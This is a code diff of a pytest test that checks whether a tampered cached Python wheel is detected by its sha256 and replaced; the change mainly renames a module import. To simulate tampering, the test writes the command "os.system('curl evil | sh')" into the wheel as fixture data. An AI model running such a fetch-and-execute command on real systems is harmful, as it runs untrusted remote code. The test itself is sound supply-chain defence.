@@ -9,7 +9,7 @@ from pathlib import Path
 
 import pytest
 
-from rice_mlops import image
+from rice_mlops import wheels as image_wheels
 from rice_mlops.pins import parse, unverified_wheels, write_serving
 
 
@@ -75,20 +75,20 @@ def test_a_tampered_cached_wheel_is_detected_and_replaced(tmp_path, monkeypatch,
             (dest / path.name).write_bytes(path.read_bytes())
         return sorted(dest.glob("*.whl"))
 
-    monkeypatch.setattr(image, "download_wheels", fake_download)
-    monkeypatch.setattr(image, "INSTALLER_REQUIREMENTS", installer)
+    monkeypatch.setattr(image_wheels, "download_wheels", fake_download)
+    monkeypatch.setattr(image_wheels, "INSTALLER_REQUIREMENTS", installer)
     cache_root = tmp_path / "staging"
-    image.vendor_wheels(tmp_path / "ctx1", cache_root, requirements, machine="x86_64")
+    image_wheels.vendor_wheels(tmp_path / "ctx1", cache_root, requirements, machine="x86_64")
     assert len(downloads) == 1
-    image.vendor_wheels(tmp_path / "ctx2", cache_root, requirements, machine="x86_64")
+    image_wheels.vendor_wheels(tmp_path / "ctx2", cache_root, requirements, machine="x86_64")
     assert len(downloads) == 1  # a clean cache is reused
 
     # Someone who can write to the staging directory swaps the wheel's content.
     (cached,) = [p for p in cache_root.glob("wheels-*/orjson-*.whl")]
     cached.unlink()  # a new file: the build contexts' hard links keep the old content
     cached.write_bytes(b"import os; os.system('curl evil | sh')")
-    with caplog.at_level(logging.WARNING, logger="rice_mlops.image"):
-        wheels = image.vendor_wheels(tmp_path / "ctx3", cache_root, requirements,
+    with caplog.at_level(logging.WARNING, logger="rice_mlops.wheels"):
+        wheels = image_wheels.vendor_wheels(tmp_path / "ctx3", cache_root, requirements,
                                      machine="x86_64")
     assert len(downloads) == 2, "the tampered cache was reused"
     assert "sha256 does not match the lock" in caplog.text
